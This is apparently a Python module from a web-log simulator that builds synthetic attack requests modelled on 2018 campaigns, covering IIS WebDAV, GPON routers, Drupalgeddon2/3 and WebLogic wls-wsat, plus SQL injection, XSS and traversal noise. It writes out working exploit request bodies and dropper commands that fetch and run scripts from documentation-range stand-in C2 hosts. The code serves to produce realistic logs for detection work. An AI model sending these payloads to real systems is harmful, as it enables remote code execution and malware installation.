"""Attack requests, written here from the public descriptions of each vulnerability.

Every builder takes a ``random.Random`` and returns a :class:`Req` template (no time, source or
target yet). Payload commands point at documentation addresses (RFC 5737) and made-up names:
the logs look like the real campaigns of 2018 without carrying anyone's live infrastructure.
"""

from __future__ import annotations

import random
from dataclasses import dataclass, field
from urllib.parse import quote

# C2 hosts for the droppers in payloads: TEST-NET blocks, never routable.
_C2 = [f"198.51.100.{i}" for i in (7, 23, 44, 91, 130)] + [f"203.0.113.{i}" for i in (5, 66, 140)]
_BOT_NAMES = ["mips", "mipsel", "arm7", "x86", "bins.sh", "gpon", "t8UsA", "kw"]


@dataclass
class Req:
    """One HTTP request as the simulator writes it into any of the log formats."""

    method: str
    uri: str  # path + '?' + query, percent-encoded as on the wire
    status: int = 200
    ua: str = "-"
    referer: str = "-"
    headers: dict[str, str] = field(default_factory=dict)  # extra headers (whole-request logs)
    body: str = ""
    campaign: str | None = None  # campaign key (docs/architecture.md) or None
    family: str | None = None  # generic family of noise requests
    size: int | None = None  # response body bytes when fixed (else drawn by the writer)


def _cmd(rng: random.Random) -> str:
    host, name = rng.choice(_C2), rng.choice(_BOT_NAMES)
    tmp = f"/tmp/.{rng.choice(['x', 'k', 'lol', 'm'])}{rng.randrange(10, 99)}"
    return rng.choice([
        f"busybox wget http://{host}/{name} -O {tmp}; chmod 777 {tmp}; {tmp} gpon",
        f"cd /tmp; wget http://{host}/{name}; sh {name}",
        f"curl -s http://{host}/{name} | sh",
    ])


# -- IIS 6.0 WebDAV, CVE-2017-7269 --------------------------------------------------------------
_CJK = [chr(c) for c in range(0x4E00, 0x9FA5)]


def _filler(rng: random.Random, n: int) -> str:
    # ScStoragePathFromUrl copies the URL of the If header into a fixed stack buffer: a long
    # run of wide (non-ASCII) characters overflows it. Random CJK code points stand in here.
    return "".join(rng.choices(_CJK, k=n))


def iis_webdav(rng: random.Random, host: str) -> Req:
    """PROPFIND of the root with an ``If: <http://...>`` header carrying the overflow."""
    a = "".join(rng.choices("abcdefghijklmnopqrstuvwxyz", k=rng.randrange(100, 115)))
    if_header = (
        f"<http://{host}/{a}{_filler(rng, rng.randrange(20, 40))}> "
        f"(Not <locktoken:write1>) <http://{host}/b{_filler(rng, rng.randrange(60, 120))}>"
    )
    return Req(
        "PROPFIND", "/", status=rng.choice([400, 500, 500, 502]),
        ua=rng.choice(["-", "-", "Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.1)"]),
        headers={"Content-Length": "0", "If": if_header},
        campaign="iis-webdav",
    )


# -- Dasan GPON routers, CVE-2018-10561 / CVE-2018-10562 ----------------------------------------
def gpon(rng: random.Random, host: str) -> Req:
    """``?images`` authentication bypass chained with the ``dest_host`` command injection."""
    cmd = _cmd(rng)
    enc = quote(cmd, safe="/").replace("%20", "+")
    body = f"XWebPageName=diag&diag_action=ping&wan_conlist=0&dest_host=`{enc}`;{enc}&ipv=0"
    return Req(
        "POST", "/GponForm/diag_Form?images/", status=rng.choice([404, 404, 400, 200]),
        ua=rng.choice(["Hello, World", "Hello, world", "-", "Mozilla/5.0"]),
        headers={"Content-Type": "application/x-www-form-urlencoded"}, body=body,
        campaign="gpon",
    )


# -- Drupal, CVE-2018-7600 (Drupalgeddon2) and CVE-2018-7602 (Drupalgeddon3) --------------------
def _php_probe(rng: random.Random) -> tuple[str, str]:
    fn = rng.choice(["exec", "passthru", "system", "shell_exec"])
    arg = rng.choice(["id", "uname -a", "echo vuln", f"wget http://{rng.choice(_C2)}/x.sh"])
    return fn, arg


def drupalgeddon2(rng: random.Random, host: str) -> Req:
    """Form API keys starting with '#' (render array properties) sent to an AJAX form."""
    fn, arg = _php_probe(rng)
    if rng.random() < 0.5:  # Drupal 8: user/register through the AJAX wrapper
        uri = ("/user/register?element_parents=account/mail/%23value&ajax_form=1"
               "&_wrapper_format=drupal_ajax")
        body = (f"form_id=user_register_form&_drupal_ajax=1&mail%5B%23post_render%5D%5B%5D={fn}"
                f"&mail%5B%23type%5D=markup&mail%5B%23markup%5D={quote(arg)}")
    else:  # Drupal 7: user/password with the render array in the query
        uri = (f"/?q=user/password&name%5B%23post_render%5D%5B%5D={fn}"
               f"&name%5B%23type%5D=markup&name%5B%23markup%5D={quote(arg)}")
        body = "form_id=user_pass&_triggering_element_name=name&_triggering_element_value="
    return Req("POST", uri, status=rng.choice([200, 200, 403, 404, 500]),
               ua=rng.choice(["python-requests/2.18.4", "Mozilla/5.0", "-"]),
               headers={"Content-Type": "application/x-www-form-urlencoded"}, body=body,
               campaign="drupalgeddon2")


def drupalgeddon3(rng: random.Random, host: str) -> Req:
    """Double-encoded render array in ``destination`` of a node delete confirmation."""
    fn, arg = _php_probe(rng)
    nid = rng.randrange(1, 40)
    uri = (f"/?q=node/{nid}/delete&destination=node?q%5B%2523post_render%5D%5B%5D={fn}"
           f"%26q%5B%2523type%5D=markup%26q%5B%2523markup%5D={quote(quote(arg))}")
    body = (f"form_id=node_delete_confirm&_triggering_element_name=form_id"
            f"&form_token={rng.getrandbits(64):016x}")
    return Req("POST", uri, status=rng.choice([200, 403]), ua="Mozilla/5.0",
               headers={"Content-Type": "application/x-www-form-urlencoded",
                        "Cookie": f"SESS{rng.getrandbits(64):016x}={rng.getrandbits(96):024x}"},
               body=body, campaign="drupalgeddon3")


# -- Oracle WebLogic wls-wsat, CVE-2017-10271 ---------------------------------------------------
_WSAT = ["CoordinatorPortType", "RegistrationPortTypeRPC", "ParticipantPortType",
         "CoordinatorPortType11", "RegistrationRequesterPortType"]


def weblogic_wls_wsat(rng: random.Random, host: str) -> Req:
    """SOAP WorkContext header decoded by java.beans.XMLDecoder: a ProcessBuilder is started."""
    cmd = rng.choice([
        f"curl -fsSL http://{rng.choice(_C2)}/xmr.sh | sh",
        f"wget -q -O - http://{rng.choice(_C2)}/w.sh | bash",
        "powershell -w hidden -c (new-object net.webclient).downloadstring('http://"
        f"{rng.choice(_C2)}/p.ps1')",
    ])
    sh = ["cmd.exe", "/c"] if cmd.startswith("powershell") else ["/bin/bash", "-c"]
    items = "".join(
        f'<void index="{i}"><string>{v.replace("&", "&amp;").replace("<", "&lt;")}</string></void>'
        for i, v in enumerate([*sh, cmd])
    )
    body = (
        '<soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/">'
        "<soapenv:Header><work:WorkContext xmlns:work=\"http://bea.com/2004/06/soap/workarea/\">"
        '<java version="1.8.0_151" class="java.beans.XMLDecoder">'
        '<object class="java.lang.ProcessBuilder">'
        f'<array class="java.lang.String" length="3">{items}</array>'
        '<void method="start"/></object></java></work:WorkContext></soapenv:Header>'
        "<soapenv:Body/></soapenv:Envelope>"
    )
    return Req("POST", f"/wls-wsat/{rng.choice(_WSAT)}", status=rng.choice([500, 404, 200]),
               ua=rng.choice(["Mozilla/5.0 (Windows NT 10.0; Win64; x64)", "python-requests/2.18.4",
                              "-"]),
               headers={"Content-Type": "text/xml;charset=UTF-8"}, body=body,
               campaign="weblogic-wls-wsat")


CAMPAIGN_BUILDERS = {
    "iis-webdav": iis_webdav,
    "gpon": gpon,
    "drupalgeddon2": drupalgeddon2,
    "drupalgeddon3": drupalgeddon3,
    "weblogic-wls-wsat": weblogic_wls_wsat,
}


# -- generic noise --------------------------------------------------------------------------------
def noise(rng: random.Random, host: str) -> Req:
    """Scanner, SQL injection, XSS and traversal probes that belong to no campaign."""
    kind = rng.choice(["sqli", "sqli", "xss", "lfi", "scanner", "scanner"])
    if kind == "sqli":
        p = rng.choice([
            "1' OR '1'='1", "1 UNION SELECT username,password FROM users--",
            "1 AND SLEEP(5)", "-1' UNION ALL SELECT NULL,@@version,NULL-- -",
        ])
        uri = f"/{rng.choice(['products.php', 'item', 'news.php', 'index.php'])}?id={quote(p)}"
        ua = rng.choice(["sqlmap/1.2.4#stable (http://sqlmap.org)", "Mozilla/5.0"])
    elif kind == "xss":
        p = rng.choice(["<script>alert(1)</script>", "\"><svg/onload=alert(document.domain)>",
                        "<img src=x onerror=alert(1)>"])
        uri = f"/search?q={quote(p)}"
        ua = "Mozilla/5.0"
    elif kind == "lfi":
        p = rng.choice(["../../../../etc/passwd", "....//....//etc/passwd",
                        "../../../../windows/win.ini"])
        uri = f"/index.php?page={quote(p, safe='')}"
        ua = rng.choice(["Mozilla/5.0", "-"])
    else:
        uri = rng.choice(["/", "/admin/", "/phpmyadmin/", "/wp-login.php", "/cgi-bin/test.cgi"])
        ua = rng.choice(["Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000003)",
                         "sqlmap/1.2.4#stable (http://sqlmap.org)", "masscan/1.0",
                         "Mozilla/5.0 zgrab/0.x"])
    return Req("GET", uri, status=rng.choice([404, 404, 403, 400, 200]), ua=ua, family=kind)
